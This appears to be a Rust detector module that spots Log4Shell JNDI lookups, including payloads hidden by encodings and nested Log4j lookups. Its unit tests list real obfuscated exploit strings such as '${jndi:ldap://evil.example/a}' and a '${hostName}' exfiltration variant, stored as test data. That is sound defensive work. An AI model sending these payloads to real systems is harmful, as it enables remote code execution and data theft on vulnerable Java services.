//! JNDI lookups (log4shell, CVE-2021-44228): `${jndi:ldap://...}` after undoing the encodings
//! that reach a logger (percent, `\u` escapes, HTML references) and after evaluating the Log4j
//! lookups attackers nest to hide the word: `${lower:j}`, `${::-n}`, `${env:X:-d}`,
//! `${date:'i'}`, `$${...}`.

use super::decode::{
    contains_str, decode_layers_cow, excerpt, html_decode, lower_folded, percent_decode_once, position_of,
    unescape_backslash, AnyOf,
};
use super::scan::{group, Scan};
use super::Hit;
use std::sync::LazyLock;

const MAX_DEPTH: usize = 16;
/// Protocols a JNDI lookup can use.
const JNDI_PROTOCOLS: &[&str] = &[
    "ldap:", "ldaps:", "rmi:", "dns:", "iiop:", "corba:", "nds:", "nis:", "http:", "https:",
];

/// Decodes every encoding layer that could hide `${` until nothing changes (bounded).
fn decode_all(value: &str) -> String {
    let mut s = value.to_string();
    // `$&lbrace` without its semicolon is still read as a brace by lenient decoders.
    for (name, c) in [
        ("&lbrace", "{"),
        ("&lcub", "{"),
        ("&dollar", "$"),
        ("&rbrace", "}"),
        ("&rcub", "}"),
    ] {
        if s.to_ascii_lowercase().contains(name) {
            let lower = s.to_ascii_lowercase();
            let mut out = String::with_capacity(s.len());
            let mut last = 0;
            for (p, _) in lower.match_indices(name) {
                if lower[p + name.len()..].starts_with(';') {
                    continue;
                }
                out.push_str(&s[last..p]);
                out.push_str(c);
                last = p + name.len();
            }
            out.push_str(&s[last..]);
            s = out;
        }
    }
    for _ in 0..4 {
        let mut next = unescape_backslash(&html_decode(&s)).into_owned();
        if next.contains('%') {
            next = percent_decode_once(&next);
        }
        if next == s {
            break;
        }
        s = next;
    }
    s
}

/// Evaluates Log4j lookup syntax the way Log4j would for names it does not know: a lookup with a
/// default (`${anything:-x}`) becomes the default, `${lower:x}`/`${upper:x}` become `x`, and
/// `${jndi:...}` is kept as written so it can be found. Returns the text with lookups replaced.
fn evaluate(s: &[char], i: &mut usize, depth: usize, found: &mut bool) -> String {
    let mut out = String::new();
    while *i < s.len() {
        let c = s[*i];
        if c == '$' && s.get(*i + 1) == Some(&'{') {
            *i += 2;
            let inner = if depth < MAX_DEPTH {
                evaluate(s, i, depth + 1, found)
            } else {
                String::new()
            };
            let inner_lower = inner.to_ascii_lowercase();
            let compact: String = inner_lower.chars().filter(|c| !c.is_whitespace()).collect();
            if compact.starts_with("jndi:")
                || compact.starts_with("jndi") && compact.len() > 4 && is_jndi_protocol(&compact[4..])
            {
                *found = true;
            }
            out.push_str(&resolve(&inner));
            continue;
        }
        if c == '}' && depth > 0 {
            *i += 1;
            return out;
        }
        out.push(c);
        *i += 1;
    }
    out
}

fn is_jndi_protocol(rest: &str) -> bool {
    let rest = rest.trim_start_matches(':');
    JNDI_PROTOCOLS.iter().any(|p| rest.starts_with(p))
}

/// What a lookup's content evaluates to when it is not a JNDI lookup.
fn resolve(inner: &str) -> String {
    if let Some(p) = inner.find(":-") {
        return inner[p + 2..].to_string();
    }
    let lower = inner.to_ascii_lowercase();
    for prefix in ["lower:", "upper:"] {
        if lower.starts_with(prefix) {
            return inner[prefix.len()..].to_string();
        }
    }
    if let Some(fmt) = lower.strip_prefix("date:") {
        return fmt.trim_matches(|c| c == '\'' || c == '"').to_string();
    }
    // Unknown lookups (`${env:USER}`, `${hostName}`) resolve to something we cannot know.
    String::from("x")
}

/// Looks for a JNDI lookup in one decoded value.
#[cfg(test)]
pub fn detect(value: &str, paranoia: u8) -> Option<Hit> {
    detect_in(value, Scan::of(value), paranoia)
}

/// "jndi" in any ASCII case.
static JNDI_WORD: LazyLock<AnyOf> = LazyLock::new(|| AnyOf::ignoring_ascii_case(&["jndi"]));

/// [`detect`] of a value whose scan is `scan` ([`Scan::of`] the value). The quick tests are
/// inlined into the caller's loop over the values: most stop there, without a call.
#[inline]
pub(crate) fn detect_in(value: &str, scan: Scan, paranoia: u8) -> Option<Hit> {
    // Each test is skipped when the scan says the character or substring it needs is absent.
    let (bytes, needles) = (scan.bytes, scan.needles);
    let quick = (bytes.has(b'$') && value.as_bytes().contains(&b'$'))
        || (needles.may(group::PERCENT_24) && bytes.has(b'%') && contains_str(value, "%24"))
        || (needles.may(group::AMP_REFERENCE)
            && bytes.has(b'&')
            && (contains_str(value, "&#") || contains_str(value, "&dollar")))
        || (needles.may(group::BACKSLASH_ESCAPE)
            && bytes.has(b'\\')
            && (contains_str(value, "\\u") || contains_str(value, "\\x")))
        || (paranoia >= 2 && needles.has(group::JNDI, || JNDI_WORD.is_in(value)));
    if !quick {
        return None;
    }
    evaluate_lookups(value, paranoia)
}

/// [`detect_in`] past its quick tests.
#[inline(never)]
fn evaluate_lookups(value: &str, paranoia: u8) -> Option<Hit> {
    let decoded = decode_all(value);
    let folded = lower_folded(&decoded);
    let chars: Vec<char> = folded.chars().collect();
    let mut found = false;
    let mut i = 0;
    // `$${` is Log4j's escape for a literal `${`; attackers use it to confuse filters, and the
    // text is logged again later, so read it as a lookup.
    let collapsed: Vec<char> = {
        let mut v = Vec::with_capacity(chars.len());
        for (k, c) in chars.iter().enumerate() {
            if *c == '$' && chars.get(k + 1) == Some(&'$') {
                continue;
            }
            v.push(*c);
        }
        v
    };
    let resolved = evaluate(&collapsed, &mut i, 0, &mut found);
    let at = folded.find("jndi").or_else(|| folded.find("${")).unwrap_or(0);
    if found {
        return Some(Hit {
            reason: "JNDI lookup",
            excerpt: excerpt(&folded, at, 96),
        });
    }
    // The resolved text spells a lookup that was assembled from pieces.
    if resolved.contains("${jndi:") || resolved.contains("jndi:") && resolved.contains("${") {
        return Some(Hit {
            reason: "obfuscated JNDI lookup",
            excerpt: excerpt(&folded, at, 96),
        });
    }
    if paranoia >= 2 {
        if let Some(p) = resolved.find("jndi:") {
            if is_jndi_protocol(&resolved[p + 4..]) {
                return Some(Hit {
                    reason: "JNDI URL",
                    excerpt: excerpt(&resolved, p, 96),
                });
            }
        }
    }
    None
}

/// [`detect_in`] of a protocol header's value, not yet decoded.
pub(crate) fn detect_in_raw(raw: &str, paranoia: u8) -> Option<Hit> {
    // Without a `%` the value decodes to itself, and at paranoia 1 every quick test of
    // [`detect_in`] needs a `$`, `%`, `&` or `\`: most headers stop at this one pass.
    if paranoia < 2 && position_of(raw.as_bytes(), |b| matches!(b, b'$' | b'%' | b'&' | b'\\')).is_none() {
        return None;
    }
    let value = decode_layers_cow(raw);
    detect_in(&value, Scan::bytes_of(&value), paranoia)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn lookups_and_obfuscations() {
        for attack in [
            "${jndi:ldap://evil.example/a}",
            "${JNDI:rmi://evil.example/a}",
            "${${lower:j}ndi:ldap://x/a}",
            "${${::-j}${::-n}${::-d}${::-i}:ldap://x/a}",
            "${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://x/a}",
            "${${upper:j}${lower:N}di:dns://x/a}",
            "${jndi:ldap://${hostName}.cb.example/a}",
            "%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D",
            "$\\u007Bjndi:ldap://x/a}",
            "&#36;&#123;jndi:ldap://x/a}",
            "$&lbrace;jndi:ldap://x/a&rcub;",
            "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x/a}",
            "User-Agent: ${ jndi:ldap://x/a}",
            "$${jndi:ldap://x/a}",
            "$&lbracejndi:ldap://x/a}",
        ] {
            assert!(detect(attack, 1).is_some(), "missed {attack:?}");
        }
    }

    #[test]
    fn benign_templates() {
        for ok in [
            "${HOME}/bin",
            "price: $5 {approx}",
            "${user.name} logged in",
            "jndi is a java api",
            "${lower:ABC}",
            "{\"a\": \"${b}\"}",
        ] {
            assert!(detect(ok, 1).is_none(), "false positive on {ok:?}");
        }
    }
}
